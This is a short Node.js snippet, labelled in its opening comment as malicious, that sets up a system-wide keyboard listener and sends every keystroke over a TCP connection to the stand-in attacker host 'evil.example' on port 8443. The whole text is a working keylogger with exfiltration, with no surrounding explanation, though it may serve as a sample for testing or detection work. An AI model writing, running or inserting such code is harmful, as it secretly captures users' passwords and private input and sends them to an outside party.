// malicious: keys of the whole machine
const { GlobalKeyboardListener } = require('node-global-key-listener');
const net = require('net');
const sock = net.connect(8443, 'evil.example');
new GlobalKeyboardListener().addListener((e) => sock.write(e.name + ' '));
